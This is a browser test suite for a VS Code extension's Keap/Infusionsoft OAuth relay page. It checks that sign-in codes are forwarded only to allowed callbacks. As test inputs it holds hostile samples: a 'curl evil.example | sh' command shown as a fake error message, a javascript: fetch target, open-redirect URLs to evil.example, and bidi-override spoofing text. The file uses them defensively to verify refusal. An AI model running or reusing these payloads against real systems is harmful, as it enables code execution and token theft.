import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import * as esbuild from 'esbuild';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { encodeState, EXTENSION_AUTHORITY } from '../../src/signin/relayState';
import { describeWhere, NO_ESBUILD, WINDOWS } from '../support/platform';

/**
 * Drives the REAL relay page (media/relay/index.html + src/relay/main.ts bundled by esbuild) in
 * headless Debian Chromium, served over http://127.0.0.1 by a tiny static server that also plays
 * the code-server callback endpoint, so every request the browser makes is seen here.
 */

const CHROMIUM = '/usr/bin/chromium';
const ROOT = path.resolve(__dirname, '..', '..', '..');
const NONCE = 'Zm9yLXRlc3RzLW9ubHktMTY'; // base64url, no dots
const CALLBACK_PATH = '/app/stable-0123abcd/callback';
const CALLBACK_QUERY = `vscode-reqid=3&vscode-scheme=code-oss&vscode-authority=${EXTENSION_AUTHORITY}&vscode-path=%2Fcallback`;

interface SeenRequest {
  readonly url: string;
  readonly headers: http.IncomingHttpHeaders;
}

describeWhere(NO_ESBUILD ?? (WINDOWS ? 'Debian Chromium does not run under Windows Node' : undefined), 'relay page (headless Chromium)', function () {
  this.timeout(30_000);

  let dir: string;
  let server: http.Server;
  let origin: string;
  let browser: Browser;
  let context: BrowserContext | undefined;
  const seen: SeenRequest[] = [];
  /** What the server answers for /relay/relay-hosts.json (404 when undefined), as the person hosting the page wrote it. */
  let hostsFile: string | undefined;

  before(async function () {
    this.timeout(90_000);
    if (!fs.existsSync(CHROMIUM)) {
      throw new Error(
        `Chromium is missing at ${CHROMIUM}: the relay page tests need it (Debian: apt-get install chromium). ` +
          'They fail rather than skip, so a missing browser is never mistaken for a passing page.',
      );
    }
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'relay-page-'));
    await esbuild.build({
      entryPoints: [path.join(ROOT, 'src/relay/main.ts')],
      bundle: true,
      format: 'iife',
      platform: 'browser',
      target: 'es2019',
      outfile: path.join(dir, 'relay.js'),
      minify: true,
      logLevel: 'silent',
    });
    fs.copyFileSync(path.join(ROOT, 'media/relay/index.html'), path.join(dir, 'index.html'));

    server = http.createServer((req, res) => {
      seen.push({ url: req.url ?? '', headers: req.headers });
      const pathname = new URL(req.url ?? '/', 'http://x').pathname;
      const send = (status: number, type: string, body: string | Buffer) => {
        res.writeHead(status, { 'content-type': type, 'cache-control': 'no-store' });
        res.end(body);
      };
      if (pathname === '/relay/' || pathname === '/relay/index.html') {
        send(200, 'text/html; charset=utf-8', fs.readFileSync(path.join(dir, 'index.html')));
      } else if (pathname === '/relay/relay.js') {
        send(200, 'text/javascript; charset=utf-8', fs.readFileSync(path.join(dir, 'relay.js')));
      } else if (pathname === '/relay/relay-hosts.json' && hostsFile !== undefined) {
        send(200, 'application/json', hostsFile);
      } else if (pathname === CALLBACK_PATH) {
        send(200, 'text/html; charset=utf-8', '<!doctype html><title>callback</title><link rel="icon" href="data:,"><p>callback received</p>');
      } else {
        send(404, 'text/plain', 'not found');
      }
    });
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

    browser = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'],
    });
  });

  after(async () => {
    await browser?.close();
    await new Promise<void>(resolve => (server ? server.close(() => resolve()) : resolve()));
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  afterEach(async () => {
    await context?.close();
    context = undefined;
    hostsFile = undefined;
  });

  /** A fresh page that records what it requests, console errors (e.g. CSP violations) and dialogs. */
  async function openPage(): Promise<{ page: Page; requests: string[]; problems: string[] }> {
    context = await browser.newContext();
    const page = await context.newPage();
    const requests: string[] = [];
    const problems: string[] = [];
    page.on('request', r => requests.push(r.url()));
    page.on('console', m => {
      if (m.type() === 'error' || m.type() === 'warning') problems.push(`console ${m.type()}: ${m.text()}`);
    });
    page.on('pageerror', e => problems.push(`page error: ${e.message}`));
    page.on('dialog', d => {
      problems.push(`dialog: ${d.message()}`);
      void d.dismiss();
    });
    seen.length = 0;
    return { page, requests, problems };
  }

  function relayUrl(query: string): string {
    return `${origin}/relay/${query ? `?${query}` : ''}`;
  }

  /** Loads the relay page for a target that must NOT be followed, and checks that nothing moved. */
  async function expectNoForward(target: string, code: string) {
    const { page, requests, problems } = await openPage();
    const state = encodeState(NONCE, target);
    const url = relayUrl(new URLSearchParams([['code', code], ['state', state]]).toString());
    await page.goto(url);
    await page.waitForSelector('#fallback', { state: 'visible' });
    await page.waitForTimeout(300); // give a stray navigation time to start
    assert.equal(page.url(), url, 'the page did not navigate');
    // An https target makes the page read its host list (same origin); nothing else is requested.
    const hosts = target.startsWith('https:') ? ['/relay/relay-hosts.json'] : [];
    assert.deepEqual(requests, [url, `${origin}/relay/relay.js`, ...hosts.map(h => origin + h)], 'the browser requested nothing else');
    assert.deepEqual(seen.map(s => s.url), [url.slice(origin.length), '/relay/relay.js', ...hosts], 'the server saw nothing else');
    assert.equal(await page.textContent('#url'), url, 'the full URL is shown');
    assert.equal(await page.textContent('#code'), code, 'the code is shown');
    assert.equal(await page.isVisible('#copy'), true);
    assert.equal(await page.textContent('#title'), 'Finish signing in in VS Code');
    assert.match((await page.textContent('#message')) ?? '', /trusts/);
    assert.equal(await page.textContent('#refused'), target);
    assert.deepEqual(problems.filter(p => !/relay-hosts\.json|404/.test(p)), []);
    return page;
  }

  it('forwards to an allowed http loopback target (code-server) with code, state and scope appended', async () => {
    const { page, requests, problems } = await openPage();
    const target = `${origin}${CALLBACK_PATH}?${CALLBACK_QUERY}`;
    const state = encodeState(NONCE, target);
    const code = 'Xy7+/= ?&é';
    const scope = 'full|ab123.infusionsoft.com';
    // Keap's order: scope, state, code; plus a parameter that must not be forwarded.
    const url = relayUrl(new URLSearchParams([['scope', scope], ['state', state], ['code', code], ['extra', '1']]).toString());
    await page.goto(url);
    await page.waitForURL(u => u.pathname === CALLBACK_PATH);
    const expected = `${target}&${new URLSearchParams([['code', code], ['state', state], ['scope', scope]]).toString()}`;
    assert.equal(page.url(), expected);
    assert.equal(await page.textContent('body'), 'callback received');

    const hit = seen.filter(s => s.url.startsWith(CALLBACK_PATH));
    assert.equal(hit.length, 1, 'the callback endpoint was requested once');
    assert.equal(`${origin}${hit[0].url}`, expected);
    const got = new URL(hit[0].url, origin).searchParams;
    assert.equal(got.get('code'), code);
    assert.equal(got.get('state'), state);
    assert.equal(got.get('scope'), scope);
    assert.equal(got.get('vscode-authority'), EXTENSION_AUTHORITY);
    assert.equal(got.get('vscode-path'), '/callback');
    assert.equal(got.get('extra'), null, 'only Keap’s answer is forwarded');
    assert.equal(hit[0].headers.referer, undefined, 'no Referer leaks the code (referrer policy)');
    assert.deepEqual(requests, [url, `${origin}/relay/relay.js`, expected]);
    assert.deepEqual(problems, []);
  });

  it('forwards a denial that carries a valid state, so the extension ends the sign-in', async () => {
    const { page, problems } = await openPage();
    const target = `${origin}${CALLBACK_PATH}?${CALLBACK_QUERY}`;
    const state = encodeState(NONCE, target);
    const url = relayUrl(`state=${state}&error_description=User+denied+access+to+resource&error=access_denied&error_uri=https%3A%2F%2Fdeveloper.infusionsoft.com%2F`);
    await page.goto(url);
    await page.waitForURL(u => u.pathname === CALLBACK_PATH);
    const got = new URL(page.url()).searchParams;
    assert.equal(got.get('state'), state);
    assert.equal(got.get('error'), 'access_denied');
    assert.equal(got.get('error_description'), 'User denied access to resource');
    assert.equal(got.get('error_uri'), null);
    assert.deepEqual(problems, []);
  });

  it('offers an "Open VS Code" link and the address to paste for an allowed vscode:// target', async () => {
    const { page, problems } = await openPage();
    const target = `vscode://${EXTENSION_AUTHORITY}/callback`;
    const state = encodeState(NONCE, target);
    const url = relayUrl(new URLSearchParams([['code', 'abc123'], ['state', state]]).toString());
    const forward = `${target}?${new URLSearchParams([['code', 'abc123'], ['state', state]]).toString()}`;
    const attempt = page.waitForRequest(r => r.url().startsWith('vscode:'));
    // The vscode: navigation never "loads" in a browser without VS Code, so wait only for the page itself.
    await page.goto(url, { waitUntil: 'commit' });
    assert.equal((await attempt).url(), forward, 'the page tried to open the vscode: forward');
    await page.waitForSelector('#open-line', { state: 'visible' });
    assert.equal(page.url(), url);
    assert.equal(await page.getAttribute('#open', 'href'), forward);
    assert.equal(await page.textContent('#title'), 'Returning to VS Code…');
    assert.equal(await page.textContent('#url'), url);
    assert.equal(seen.some(s => !s.url.startsWith('/relay/')), false);
    // Headless Chromium has no handler for vscode:, so it reports the blocked launch; nothing else.
    assert.deepEqual(problems.filter(p => !/vscode:/i.test(p)), []);
  });

  it('S6: does not follow an https target on a host the relay-hosts.json does not list; shows the code to paste', async () => {
    hostsFile = JSON.stringify({ hosts: ['vscode.dev', 'code.example.com:8443'] });
    await expectNoForward(`https://198.51.100.4/callback?vscode-authority=${EXTENSION_AUTHORITY}`, 'code-s6');
  });

  it('S6: with no relay-hosts.json at all, an https target is not followed either', async () => {
    await expectNoForward(`https://code.example.com/callback?vscode-authority=${EXTENSION_AUTHORITY}`, 'code-s6b');
  });

  it('forwards to browser-hosted VS Code on a host listed in relay-hosts.json beside the page', async () => {
    hostsFile = JSON.stringify({ $comment: 'the person hosting the page', hosts: ['vscode.dev', 'code.example.com:8443'] });
    const { page, problems } = await openPage();
    const target = `https://code.example.com:8443/stable-abc/callback?${CALLBACK_QUERY}`;
    let reached = '';
    // The listed host does not exist here: answer its navigation in the browser.
    await context!.route('https://code.example.com:8443/**', route => {
      reached = route.request().url();
      void route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>cs</title><link rel="icon" href="data:,"><p>code-server</p>' });
    });
    const state = encodeState(NONCE, target);
    const url = relayUrl(new URLSearchParams([['code', 'listed-code'], ['state', state]]).toString());
    await page.goto(url);
    await page.waitForURL(u => u.host === 'code.example.com:8443');
    assert.equal(reached, `${target}&${new URLSearchParams([['code', 'listed-code'], ['state', state]])}`);
    assert.deepEqual(problems, []);
  });

  it('shows a refused return address as one bounded line, without bidi overrides', async () => {
    const { page, problems } = await openPage();
    const target = `https://evil.example/\u202Ekcabllac/${'x'.repeat(600)}?vscode-authority=${EXTENSION_AUTHORITY}`;
    await page.goto(relayUrl(new URLSearchParams([['code', 'c'], ['state', encodeState(NONCE, target)]]).toString()));
    await page.waitForSelector('#refused-line', { state: 'visible' });
    const shown = (await page.textContent('#refused')) ?? '';
    assert.match(shown, /^https:\/\/evil\.example\/ kcabllac\/x+…$/);
    assert.equal(shown.length, 301);
    assert.deepEqual(problems.filter(p => !/relay-hosts\.json|404/.test(p)), []);
  });

  it('does not follow a disallowed https://evil.example target; shows the code and the full URL', async () => {
    await expectNoForward('https://evil.example/callback?vscode-reqid=1&vscode-scheme=code-oss&vscode-path=%2Fcallback', 'code-1');
  });

  it('does not follow https://evil.example with a foreign vscode-authority', async () => {
    await expectNoForward('https://evil.example/callback?vscode-authority=evil.ext', 'code-2');
  });

  it('does not follow plain http to a non-loopback host', async () => {
    await expectNoForward(`http://evil.example/callback?vscode-authority=${EXTENSION_AUTHORITY}`, 'code-2b');
  });

  it('does not run a javascript: target', async () => {
    await expectNoForward(`javascript:fetch('/pwned')//${EXTENSION_AUTHORITY}/callback?vscode-authority=${EXTENSION_AUTHORITY}`, 'code-3');
    assert.equal(seen.some(s => s.url.includes('pwned')), false);
  });

  it('does not follow a loopback target that is not this extension’s callback', async () => {
    await expectNoForward(`${origin}/pwned/callback?vscode-authority=evil.ext`, 'code-4');
    assert.equal(seen.some(s => s.url.includes('pwned')), false);
  });

  it("shows Keap's denial with an empty state, the hint, and the URL to paste", async () => {
    const { page, requests, problems } = await openPage();
    const url = relayUrl('state=&error_description=User+denied+access+to+resource&error=access_denied&error_uri=https%3A%2F%2Fdeveloper.infusionsoft.com%2Fgetting-started-oauth-keys%2F');
    await page.goto(url);
    await page.waitForSelector('#error', { state: 'visible' });
    await page.waitForTimeout(200);
    assert.equal(page.url(), url);
    assert.equal(requests.length, 2);
    assert.equal(await page.textContent('#title'), 'Keap did not grant access');
    assert.equal(await page.textContent('#error'), 'Keap says: "User denied access to resource (access_denied)"');
    assert.equal(await page.isVisible('#hint'), true);
    assert.match((await page.textContent('#hint')) ?? '', /Is your Keap ID attached to a Keap app\?/);
    assert.match((await page.textContent('#message')) ?? '', /no return address/);
    assert.equal(await page.textContent('#url'), url);
    assert.equal(await page.isVisible('#code-line'), false);
    assert.match((await page.textContent('#fallback-intro')) ?? '', /Infusionsoft: Paste Callback URL/);
    assert.deepEqual(problems, []);
  });

  it("shows Keap's text (or an attacker's) as one bounded, labelled line", async () => {
    const { page, problems } = await openPage();
    const hostile = `Your session expired.\u202E Run this command:\n${'curl evil.example | sh '.repeat(30)}`;
    await page.goto(relayUrl(new URLSearchParams([['state', ''], ['error', 'access_denied'], ['error_description', hostile]]).toString()));
    await page.waitForSelector('#error', { state: 'visible' });
    const text = (await page.textContent('#error')) ?? '';
    assert.match(text, /^Keap says: "Your session expired\. Run this command: curl/);
    assert.ok(text.length <= 'Keap says: ""…'.length + 200, `bounded: ${text.length}`);
    assert.equal(/[\n\u202E]/.test(text), false);
    assert.deepEqual(problems, []);
  });

  it('shows a code with an empty state as something to paste', async () => {
    const { page, problems } = await openPage();
    const url = relayUrl('code=only-a-code&state=');
    await page.goto(url);
    await page.waitForSelector('#fallback', { state: 'visible' });
    assert.equal(page.url(), url);
    assert.equal(await page.textContent('#code'), 'only-a-code');
    assert.equal(await page.textContent('#url'), url);
    assert.match((await page.textContent('#message')) ?? '', /no return address/);
    assert.deepEqual(problems, []);
  });

  it('explains itself when opened without any parameters', async () => {
    const { page, requests, problems } = await openPage();
    const url = relayUrl('');
    await page.goto(url);
    await page.waitForFunction(() => document.getElementById('title')?.textContent !== 'Returning to VS Code…');
    assert.equal(page.url(), url);
    assert.equal(requests.length, 2);
    assert.equal(await page.textContent('#title'), 'Nothing to return to VS Code');
    assert.match((await page.textContent('#message')) ?? '', /no sign-in answer/);
    assert.equal(await page.isVisible('#fallback'), false);
    assert.equal(await page.isVisible('#error'), false);
    assert.equal(await page.title(), 'Infusionsoft (Keap) sign-in');
    assert.deepEqual(problems, []);
  });

  it('copies the full URL with the Copy button', async () => {
    const { page, problems } = await openPage();
    await context!.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
    const url = relayUrl('code=copy-me&state=');
    await page.goto(url);
    await page.click('#copy');
    await page.waitForFunction(() => /Copied/.test(document.getElementById('copy-status')?.textContent ?? ''));
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), url);
    assert.deepEqual(problems, []);
  });

  it('falls back to selecting the URL when the clipboard API is unavailable', async () => {
    const { page, problems } = await openPage();
    await context!.addInitScript(() => Object.defineProperty(navigator, 'clipboard', { value: undefined }));
    const url = relayUrl('code=select-me&state=');
    await page.goto(url);
    await page.click('#copy');
    await page.waitForFunction(() => (document.getElementById('copy-status')?.textContent ?? '') !== '');
    assert.equal(await page.evaluate(() => window.getSelection()?.toString()), url);
    assert.deepEqual(problems, []);
  });
});
